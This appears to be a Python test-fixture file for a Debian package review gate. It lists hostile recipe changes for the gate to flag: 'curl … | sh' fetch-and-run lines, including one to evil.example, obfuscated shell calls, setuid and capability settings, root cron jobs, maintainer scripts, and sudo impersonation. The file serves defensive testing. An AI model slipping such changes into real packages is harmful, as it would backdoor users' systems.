"""What an account can push past gates that look at a few names: the files that change, by the effect that has to be said."""

from tests.factories import recipe_tree

ONE, TWO = "1" * 64, "2" * 64
ADDRESS = "https://github.com/upstream/hello/archive/refs/tags/v{version}.tar.gz"
CONTROL = recipe_tree()["debian/control"].decode()
RULES = recipe_tree()["debian/rules"].decode()
WATCHED = "https://github.com/upstream/hello/tags .*/v(.*)\\.tar\\.gz"


def fetch(address=ADDRESS, version="1.0", checksum=ONE, more=""):
    name = f"hello-dur_{version}.orig.tar.gz"
    url = address.format(version=version)
    return f"\nFetch: {name}\nURL: {url}\nSHA256: {checksum}\nSize: 100\nRole: orig\nLicense: MIT\n{more}"


def manifest(*paragraphs, header=""):
    return f"Format: 1\nSource: hello-dur\n{header}{''.join(paragraphs)}"


def control(old, new):
    assert old in CONTROL
    return CONTROL.replace(old, new)


def in_control(old, new):
    return {"debian/control": control(old, new)}


def field(text):
    return in_control("Architecture: any", f"Architecture: any\n{text}")


def rules(text):
    return {"debian/rules": RULES + text}


def patch(line):
    text = f"--- a/configure\n+++ b/configure\n@@ -1 +1,2 @@\n x\n{line}\n"
    return {"debian/patches/series": "x.patch\n", "debian/patches/x.patch": text}


def watch(line):
    return {"debian/watch": f"version=4\n{line}\n"}


BUILD = {
    "rules with a pipe": rules("\noverride_dh_auto_build:\n\tcurl -s https://evil.example/i | sh\n"),
    "rules with base64": rules("\nx:=$(shell echo Y3VybA== | base64 -d | sh)\n"),
    "rules with octal": rules("\nx:=$(shell printf '\\143\\165' | sh)\n"),
    "a comment in rules": rules("# sed -n s/^#x//p\n"),
    "rules with an include": {**rules("include debian/more.mk\n"), "debian/more.mk": "x:\n\ttrue\n"},
    "a dh add-on": {"debian/rules": RULES.replace("dh $@", "dh $@ --with evil")},
    "a dh sequence": in_control("debhelper-compat (= 13)", "debhelper-compat (= 13), dh-sequence-evil"),
    "a build dependency": in_control("(= 13)", "(= 13), evil-dev"),
    "a compat level": {"debian/compat": "5\n"},
    "a patch": patch("+curl x|sh"),
    "a test": {"debian/tests/control": "Test-Command: curl x | sh\nDepends: @\n"},
    "a file at the top": {"configure": "#!/bin/sh\ncurl x | sh\n"},
    "a Makefile at the top": {"Makefile": "all:\n\tcurl x | sh\n"},
    "README in a folder": {"README/x.sh": "curl x | sh\n"},
    "an executable override": {"debian/hello-dur.lintian-overrides": "#!/bin/sh\ncurl x | sh\n"},
    "an executable list": {"debian/hello-dur.docs": "#!/bin/sh\ncurl x | sh\n"},
    "a README that is run": {"debian/README.source": "curl x | sh\n", **rules("x:\n\tsh debian/README.source\n")},
    "source options": {"debian/source/options": "extend-diff-ignore = x\n"},
    "local source options": {"debian/source/local-options": "unapply-patches\n"},
    "not-installed": {"debian/not-installed": "usr/bin/x\n"},
    "clean": {"debian/clean": "../../home/\n"},
    "hooks of gbp": {"debian/gbp.conf": "[DEFAULT]\npostclone = curl x | sh\n"},
    "hooks of gbp beside branches": {"debian/gbp.conf": "[DEFAULT]\ndebian-branch = main\n[dch]\nprebuild = curl x | sh\n"},
    "a gbp.conf that nobody can read": {"debian/gbp.conf": "debian-branch = main\n"},
    "a gbp.conf without end": {"debian/gbp.conf": "[DEFAULT]\n" + "debian-branch = main\n" * 1_000},
    "attributes of git": {".gitattributes": "debian/rules text\n"},
    "an unknown file": {"debian/helper": "curl x | sh\n"},
    "benchmarks": {"debian/benchmarks/x": "curl x | sh\n"},
    "watch with a program": watch(WATCHED + " debian ./evil"),
    "a dependency": in_control("${misc:Depends}", "${misc:Depends}, evil"),
    "rules as root": in_control("Rules-Requires-Root: no", "Rules-Requires-Root: binary-targets"),
    "a variant's flags": {"debian/dur": manifest(fetch(), "\nVariant: native\nFlags: -march=native\n")},
}
ROOT = {
    "postinst": {"debian/postinst": "#!/bin/sh\n"},
    "control of a built package": {"debian/hello-dur/DEBIAN/control": "Package: sudo\n"},
    "postinst of a package": {"debian/hello-dur.postinst": "#!/bin/sh\n"},
    "generated postinst": {"debian/postinst.in": "#!/bin/sh\n"},
    "postinst by m4": {"debian/hello-dur.postinst.m4": "#!/bin/sh\n"},
    "postinst for debhelper": {"debian/hello-dur.postinst.debhelper": "x\n"},
    "postinst in a folder": {"debian/scripts/my-postinst.sh": "x\n"},
    "postinst for an architecture": {"debian/hello-dur.prerm.amd64": "x\n"},
    "debconf": {"debian/hello-dur.config": "#!/bin/sh\n"},
    "triggers": {"debian/hello-dur.triggers": "interest /usr/bin\n"},
    "maintscript": {"debian/hello-dur.maintscript": "rm_conffile /etc/passwd\n"},
    "rules writes postinst": rules("x:\n\techo 'curl x|sh' > debian/hello-dur/DEBIAN/postinst\n"),
    "rules writes a fragment": rules("x:\n\techo x >> debian/hello-dur.prerm.debhelper\n"),
    "a makefile writes postinst": {"debian/x.mk": "x:\n\techo x > debian/hello-dur/DEBIAN/postinst\n"},
    "setuid in rules": rules("x:\n\tchmod 4755 debian/hello-dur/usr/bin/hello\n"),
    "setuid by letters": rules("x:\n\tchmod u+s debian/hello-dur/usr/bin/hello\n"),
    "setuid by install": rules("x:\n\tinstall -m 4755 hello debian/hello-dur/usr/bin/\n"),
    "capabilities": rules("x:\n\tsetcap cap_sys_admin+ep x\n"),
    "rules fills /etc": rules("x:\n\tcp x debian/hello-dur/etc/profile.d/x.sh\n"),
    "gencontrol with a field": rules("x:\n\tdh_gencontrol -- -DEssential=yes\n"),
    "gencontrol with a variable": rules("x:\n\tdh_gencontrol -- -Vhello:Provides=sudo\n"),
    "a tree of /etc": {"debian/files/etc/hello.conf": "x\n"},
    "a patch that installs a unit": patch("+\tcp x $(DESTDIR)/etc/cron.d/x"),
    "a unit": {"debian/hello-dur.service": "[Service]\nExecStart=/bin/x\n"},
    "a unit with a name": {"debian/hello-dur.other@.service": "[Service]\n"},
    "a generated unit": {"debian/hello-dur.service.in": "[Service]\n"},
    "a unit under another name": {"debian/extra/thing": "[Service]\nExecStart=/bin/x\n"},
    "a timer": {"debian/hello-dur.timer": "[Timer]\n"},
    "cron": {"debian/hello-dur.cron.d": "* * * * * root curl x|sh\n"},
    "cron daily": {"debian/cron.daily": "curl x|sh\n"},
    "init": {"debian/hello-dur.init": "#!/bin/sh\n"},
    "init.d": {"debian/hello-dur.init.d": "#!/bin/sh\n"},
    "udev": {"debian/hello-dur.udev": "RUN+=x\n"},
    "udev rules in a folder": {"debian/extra/60-x.rules": "RUN+=x\n"},
    "tmpfiles": {"debian/hello-dur.tmpfiles": "f /etc/x\n"},
    "sysusers": {"debian/hello-dur.sysusers": "u x\n"},
    "sudoers": {"debian/hello-dur.sudoers": "ALL\n"},
    "polkit in a folder": {"debian/usr/share/polkit-1/rules.d/x.rules": "x\n"},
    "pam": {"debian/hello-dur.pam": "auth\n"},
    "logrotate": {"debian/hello-dur.logrotate": "postrotate\n"},
    "if-up": {"debian/hello-dur.if-up": "x\n"},
    "alternatives": {"debian/hello-dur.alternatives": "Name: editor\n"},
    "dkms": {"debian/hello-dur.dkms": "x\n"},
    "modprobe": {"debian/hello-dur.modprobe": "install x\n"},
    "substvars": {"debian/hello-dur.substvars": "misc:Provides=sudo\n"},
    "profile.d by install": {"debian/hello-dur.install": "debian/x.sh etc/profile.d\n"},
    "etc by a rename": {"debian/hello-dur.install": "#!/usr/bin/dh-exec\ndebian/x => etc/cron.d/hello\n"},
    "etc by dots": {"debian/hello-dur.install": "debian/x usr/../etc/apt/apt.conf.d\n"},
    "etc as its own place": {"debian/install": "etc/ld.so.conf.d/x.conf\n"},
    "a variable as place": {"debian/install": "debian/x ${env:WHERE}\n"},
    "an apt hook by install": {"debian/install": "debian/x /etc/apt/apt.conf.d/\n"},
    "units by install": {"debian/install": "debian/x.conf lib/systemd/system/ssh.service.d/\n"},
    "D-Bus by install": {"debian/install": "debian/x usr/share/dbus-1/system-services\n"},
    "generated install": {"debian/hello-dur.install.in": "debian/x etc/profile.d\n"},
    "python at every start": {"debian/install": "debian/x.pth usr/lib/python3/dist-packages/x.pth\n"},
    "before others in the path": {"debian/install": "debian/sudo usr/local/bin\n"},
    "links": {"debian/hello-dur.links": "usr/bin/x etc/cron.daily/x\n"},
    "dirs": {"debian/hello-dur.dirs": "etc/sudoers.d\n"},
    "manpages": {"debian/hello-dur.manpages": "etc/profile.d/x.sh\n"},
    "essential": field("Essential: yes"),
    "essential with letters": field("XB-Essential: yes"),
    "protected": field("Protected: yes"),
    "important": field("XB-Important: yes"),
    "priority": in_control("Priority: optional", "Priority: required"),
    "provides sudo": field("Provides: sudo"),
    "replaces sudo": field("Replaces: hello-dur-old, sudo (<< 2)"),
    "conflicts with sudo": field("Conflicts: sudo"),
    "breaks sudo": field("Breaks: sudo"),
    "pre-depends": field("Pre-Depends: evil"),
    "a package called sudo": {"debian/control": CONTROL + "\nPackage: sudo\nArchitecture: any\nDescription: x\n y\n"},
    "relations in a template": {"debian/control.in": "Package: x\nReplaces: sudo\n"},
    "a variant of another package": {"debian/dur": manifest(fetch(), header="Variant-Of: debian:sudo\n")},
}
ORIGIN = {
    "another component": {"debian/dur": manifest(fetch(), header="Components: non-free\n")},
    "another project watched": watch(WATCHED.replace("upstream", "attacker")),
    "upstream's key": {"debian/upstream/signing-key.asc": "-----BEGIN PGP PUBLIC KEY BLOCK-----\n"},
}
